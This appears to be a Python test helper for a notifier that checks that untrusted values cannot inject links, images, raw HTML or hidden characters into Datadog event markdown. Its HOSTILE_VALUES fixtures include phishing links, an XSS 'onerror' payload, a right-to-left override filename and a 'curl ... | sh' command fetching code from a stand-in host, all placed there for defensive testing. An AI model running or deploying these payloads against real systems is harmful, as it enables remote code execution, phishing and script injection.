"""Reading event markdown as a renderer does, to check that data cannot change what an event shows.

markdown-it-py in CommonMark mode, with raw HTML and linkify (bare URLs become links) turned on: the
most permissive reading, so that a value safe here is safe in Datadog's own renderer.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

from notifier.markdown import MARKDOWN_CLOSE, MARKDOWN_OPEN

_MARKDOWN = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")
# Token types that only data could have brought: a link, an image, raw HTML.
FORBIDDEN_TOKENS = frozenset({"link_open", "image", "html_inline", "html_block", "autolink"})
HIDDEN_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Zl", "Zp"})

# Hostile values (a phishing link, a mention, a shell command, a right-to-left override), each through
# every field that reaches an event.
HOSTILE_VALUES = (
    "1.2.3.4`[click-me](https://evil.example/phish)![x](https://evil.example/p.png)<b>x</b>@here",
    "/vpc/flow-logs\n# Injected heading\n\n[phish](https://evil.example)",
    "x;curl${IFS}https://evil.example/s|sh;.gz",
    "203.0.113.9\u202egpj.exe",
    "nul\x00esc\x1b[31mbel\x07line\u2028sep",
    "``` %%%\n@channel <img src=x onerror=alert(1)>",
    "https://evil.example/bare-link",
    "a\\`b*c*_d_ <https://evil.example/autolink> [ref]: https://evil.example",
)


def tokens(text: str) -> Iterator[Token]:
    """Every token of the markdown, inline children included."""
    for token in _MARKDOWN.parse(text):
        yield token
        yield from token.children or ()


def body(text: str) -> str:
    """An event's markdown without Datadog's `%%%` markers."""
    assert text.startswith(MARKDOWN_OPEN) and text.endswith(MARKDOWN_CLOSE), text[:40]
    return text[len(MARKDOWN_OPEN): -len(MARKDOWN_CLOSE)]


def forbidden(text: str) -> list[str]:
    return [t.type for t in tokens(text) if t.type in FORBIDDEN_TOKENS]


def structure(text: str) -> list[str]:
    """The token types in order: what the markdown is made of, whatever the words."""
    return [t.type for t in tokens(text)]


def code_spans(text: str) -> list[str]:
    return [t.content for t in tokens(text) if t.type == "code_inline"]


def hidden_characters(text: str) -> list[str]:
    """Control, format, bidi and separator characters (a newline between lines excepted)."""
    return [f"U+{ord(c):04X}" for c in text
            if c != "\n" and unicodedata.category(c) in HIDDEN_CATEGORIES]
